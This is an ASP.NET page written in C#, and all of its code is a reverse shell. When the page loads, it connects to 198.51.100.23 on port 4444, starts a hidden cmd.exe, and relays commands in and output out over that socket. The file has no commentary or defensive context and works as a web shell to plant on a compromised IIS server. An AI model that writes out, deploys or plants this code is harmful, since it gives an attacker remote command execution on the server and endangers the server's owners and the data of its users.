<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
static StreamWriter w;
protected void Page_Load(object sender, EventArgs e)
{
    using (TcpClient client = new TcpClient("198.51.100.23", 4444))
    using (Stream stream = client.GetStream())
    using (StreamReader rdr = new StreamReader(stream))
    {
        w = new StreamWriter(stream);
        Process p = new Process();
        p.StartInfo.FileName = "cmd.exe";
        p.StartInfo.CreateNoWindow = true;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardOutput = true;
        p.StartInfo.RedirectStandardInput = true;
        p.StartInfo.RedirectStandardError = true;
        p.OutputDataReceived += new DataReceivedEventHandler(Out);
        p.Start();
        p.BeginOutputReadLine();
        while (true) { string line = rdr.ReadLine(); p.StandardInput.WriteLine(line); }
    }
}
static void Out(object s, DataReceivedEventArgs o) { if (o.Data != null) { w.WriteLine(o.Data); w.Flush(); } }
</script>
